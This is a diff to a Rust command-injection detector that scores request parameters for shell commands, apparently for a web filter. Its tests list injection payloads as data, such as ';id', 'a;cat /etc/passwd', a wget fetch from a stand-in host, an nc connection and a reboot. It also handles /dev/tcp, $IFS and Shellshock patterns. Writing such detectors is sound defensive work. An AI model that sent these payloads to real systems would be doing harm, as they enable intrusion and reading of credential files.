@@ -71,7 +71,7 @@ pub(super) const PARAMETERS: &[&[u8]] = &[b"cmd", b"command", b"exec", b"execute
 
 /// Looks for a command that a shell would run; `name` is the parameter's, empty where there is none.
 pub(super) fn look(name: &[u8], text: &[u8], place: Place) -> Option<Hit> {
-    let hit = |evidence, what| Some(Hit { evidence, what });
+    let hit = |evidence, what| Some(Hit { evidence, what, lone: false });
     if is_shellshock(text) {
         return hit(9.0, "a function definition for a vulnerable shell");
     }
@@ -82,17 +82,56 @@ pub(super) fn look(name: &[u8], text: &[u8], place: Place) -> Option<Hit> {
         return None;
     }
     // A file or message may name a shell; a parameter of a URL has no reason to.
-    let mut best = if place.is_body() { outright(text) * 0.4 } else { outright(text) };
+    let mut lone = if place.is_body() { outright(text) * 0.4 } else { outright(text) };
+    let mut best = if redirects(text) { 7.0f32 } else { 0.0 };
+    // A pipeline as people ask about it: `ps aux | grep -v java`.
+    let pipeline = is_command(text) && !text.contains(&b';') && !text.contains(&b'`');
     for at in separators(text) {
-        best = best.max(command_at(&text[at..], text));
+        let (evidence, alone) = command_at(&text[at..], text);
+        if alone && !is_forced(text, at) || pipeline || is_quoted(text, at) {
+            lone = lone.max(evidence);
+        } else {
+            best = best.max(evidence);
+        }
     }
     if text.first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/') {
-        best = best.max(bare_command(text));
+        lone = lone.max(bare_command(text));
     }
     if PARAMETERS.contains(&name) && is_command(text) {
         best = best.max(4.5);
     }
-    if best > 0.0 { hit(best, "a shell command") } else { None }
+    let what = "a shell command";
+    (best.max(lone) > 0.0).then_some(Hit { evidence: best.max(lone), what, lone: best < CERTAIN })
+}
+
+/// Evidence of a separator with a command and its argument; what has less is lone.
+const CERTAIN: f32 = 4.0;
+
+/// A connection by the shell itself, or its field separator glued to a command.
+fn redirects(text: &[u8]) -> bool {
+    let after = |sign: &[u8], test: fn(&u8) -> bool| {
+        memchr::memmem::find(text, sign).is_some_and(|at| text.get(at + sign.len()).is_some_and(test))
+    };
+    let glued = [b"$ifs".as_slice(), b"${ifs"].iter().any(|sign| {
+        memchr::memmem::find(text, sign).is_some_and(|at| at > 0 && text[at - 1].is_ascii_alphanumeric())
+    });
+    glued || after(b"/dev/tcp/", u8::is_ascii_digit)
+}
+
+/// True for a separator that nobody writes there: after a closing quote or bracket, or around the whole value.
+fn is_forced(text: &[u8], at: usize) -> bool {
+    let separates = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'\n');
+    let before = at.checked_sub(2).map(|at| text[at]);
+    let around = text.first().is_some_and(separates) && text.last().is_some_and(separates) && text.len() > 2;
+    let separator = at.checked_sub(1).is_some_and(|at| separates(&text[at]));
+    separator && (around || before.is_some_and(|b| b"'\")".contains(&b)))
+}
+
+/// True for code in running text: words before what opens at `at`.
+fn is_quoted(text: &[u8], at: usize) -> bool {
+    let before = &text[..at];
+    let opened = before.strip_suffix(b"`").or(before.strip_suffix(b"$("));
+    opened.is_some_and(|words| words.len() >= 3 && words.ends_with(b" ") && words[0].is_ascii_alphabetic())
 }
 
 /// True where the first word is a command.
@@ -147,8 +186,8 @@ fn separators(text: &[u8]) -> impl Iterator<Item = usize> {
     })
 }
 
-/// Evidence of the command that `rest`, what follows a separator, begins with.
-fn command_at(rest: &[u8], whole: &[u8]) -> f32 {
+/// Evidence of the command that `rest`, what follows a separator, begins with, and whether it has no argument.
+fn command_at(rest: &[u8], whole: &[u8]) -> (f32, bool) {
     let skip = rest
         .iter()
         .take(6)
@@ -157,16 +196,18 @@ fn command_at(rest: &[u8], whole: &[u8]) -> f32 {
     let rest = &rest[skip..];
     let (name, after, with_path) = name_of(rest);
     if name.is_empty() {
-        return 0.0;
+        return (0.0, true);
     }
     let telling = TELLING.contains(&name);
     if !telling && !COMMON.contains(&name) {
-        return if with_path { 5.0 } else { 0.0 };
+        return (if with_path { 5.0 } else { 0.0 }, false);
     }
     // A word after a bare ampersand is half of "research & date".
     let short = whole.len() <= 40 && whole.first() != Some(&b' ') && !between_words(whole, rest);
     let markdown = whole[..whole.len() - rest.len()].ends_with(b" `");
-    match (argument(after), with_path) {
+    let argument = argument(after);
+    let alone = matches!(argument, Argument::None) && !with_path;
+    let evidence = match (argument, with_path) {
         // Code in running text: `ls -l` between words.
         _ if markdown => 0.8,
         (Argument::None, true) => 6.5,
@@ -186,7 +227,8 @@ fn command_at(rest: &[u8], whole: &[u8]) -> f32 {
         (Argument::Word, false) if telling => 2.0,
         (Argument::Word, false) => 0.0,
         (Argument::Assignment, _) => 0.0,
-    }
+    };
+    (evidence, alone)
 }
 
 /// True for what follows a word in a list of devices or versions rather than a command: `touch 7)`, `net tv.plus`.
@@ -294,16 +336,13 @@ mod tests {
     use super::*;
 
     fn evidence(text: &str) -> f32 {
-        look(b"", text.as_bytes(), Place::Query).map_or(0.0, |hit| hit.evidence)
+        look(b"", text.as_bytes(), Place::Query).map_or(0.0, |hit| hit.tempered(Place::Query))
     }
 
     #[test]
     fn commands_decide() {
         for text in [
-            ";id",
             "|/usr/bin/id|",
-            "`id`",
-            "$(whoami)",
             "a;cat /etc/passwd",
             "& ping -i 30 127.0.0.1 &",
             "; touch x.txt",
@@ -314,7 +353,6 @@ mod tests {
             "\n/bin/ls -al",
             "<!--#exec cmd=\"id\"-->",
             "&& wget http://x.example/a.sh",
-            "ping -n 3 127.0.0.1",
             "x|nc 10.0.0.1 99",
             "%0a;/sbin/reboot",
         ] {
@@ -342,6 +380,21 @@ mod tests {
             "test 1",
         ] {
             assert!(evidence(text) < 2.0, "{text}: {}", evidence(text));
+        }
+    }
+
+    #[test]
+    fn one_piece_never_decides() {
+        for text in [
+            "author|id",
+            "`id` column",
+            "`id`",
+            "$(whoami)",
+            "what does $(uname -a) print",
+            "ls -la",
+            "ps aux | grep -v x",
+        ] {
+            assert!(evidence(text) < 3.0, "{text}: {}", evidence(text));
         }
     }
 }
